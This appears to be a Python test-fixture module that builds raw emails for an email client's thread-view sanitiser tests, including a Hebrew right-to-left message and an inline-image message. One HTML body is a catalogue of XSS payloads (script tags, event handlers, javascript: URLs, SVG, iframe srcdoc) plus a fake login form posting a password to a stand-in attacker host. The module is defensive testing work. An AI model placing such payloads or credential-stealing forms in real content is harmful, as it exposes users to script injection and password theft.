"""Raw emails for the thread view tests: hostile HTML, remote and inline images, right-to-left text.

They go through the real pipeline (mailsync.sync.ingest.ingest_raw -> parsing -> nh3 sanitiser), so the tests
check what a user would really see, not hand-made "already sanitised" HTML.
"""

import base64
from email.message import EmailMessage
from email.utils import formatdate, make_msgid

from mailsync.models import EmailAccount, EmailThread
from mailsync.sync.ingest import ingest_raw

# A 1x1 PNG (red pixel).
PIXEL_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)

HOSTILE_HTML = """<html><head><script>window.__pwned = 1; alert('head')</script>
<meta http-equiv="refresh" content="0; url=javascript:window.__pwned=7">
<base href="https://evil.example/"></head>
<body onload="window.__pwned = 6; alert('body')">
<p id="greeting">Quarterly numbers are attached.</p>
<script>window.__pwned = 1; alert('script')</script>
<img src="x" onerror="window.__pwned = 2; alert('img')">
<a id="evil-link" href="javascript:window.__pwned = 3; alert('link')">Open the report</a>
<svg><script>window.__pwned = 4</script><circle onload="window.__pwned = 4"></circle></svg>
<iframe srcdoc="&lt;script&gt;parent.__pwned = 5&lt;/script&gt;"></iframe>
<object data="javascript:window.__pwned = 8"></object>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<div style="background-image: url(https://evil.example/css.png)">Styled text</div>
{remote_image}
</body></html>"""


def _message(subject: str, *, sender: str, to: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = formatdate(localtime=False)
    message["Message-ID"] = make_msgid(domain="mail.test")
    return message


def hostile_email(*, to: str, remote_image_url: str = "") -> bytes:
    """An HTML email carrying script payloads (and optionally a remote "tracking" image)."""
    message = _message("Quarterly numbers", sender="Mallory <mallory@evil.example>", to=to)
    message.set_content("Quarterly numbers are attached.\n")
    remote = (
        f'<img id="tracker" src="{remote_image_url}" alt="tracker" width="1" height="1">' if remote_image_url else ""
    )
    message.add_alternative(HOSTILE_HTML.format(remote_image=remote), subtype="html")
    return message.as_bytes()


def inline_image_email(*, to: str, content_id: str = "logo.123@mail.test") -> bytes:
    """multipart/related: an HTML body showing an inline image by cid:, plus a PDF attachment."""
    message = _message("Our new logo", sender="Ann <ann@acme.example>", to=to)
    message.set_content("See our new logo.\n")
    message.add_alternative(
        f'<p>See our new logo:</p><img id="logo" src="cid:{content_id}" alt="logo">', subtype="html"
    )
    message.get_payload()[1].add_related(PIXEL_PNG, "image", "png", cid=f"<{content_id}>", filename="logo.png")
    message.add_attachment(b"%PDF-1.4 quote", maintype="application", subtype="pdf", filename="quote.pdf")
    return message.as_bytes()


def rtl_email(*, to: str) -> bytes:
    """Hebrew subject and HTML body (S9)."""
    message = _message("הצעת מחיר לשנה הבאה", sender="דנה <dana@example.co.il>", to=to)
    message.set_content("שלום, מצורפת הצעת המחיר.\n")
    message.add_alternative("<p>שלום, מצורפת הצעת המחיר.</p><p>תודה, דנה</p>", subtype="html")
    return message.as_bytes()


def ingest(account: EmailAccount, raw: bytes) -> EmailThread:
    """Store one raw email like a sync would and return its thread."""
    result = ingest_raw(account, [raw])
    assert result.created == 1, result
    return EmailThread.objects.get(messages__pk=result.created_ids[0])
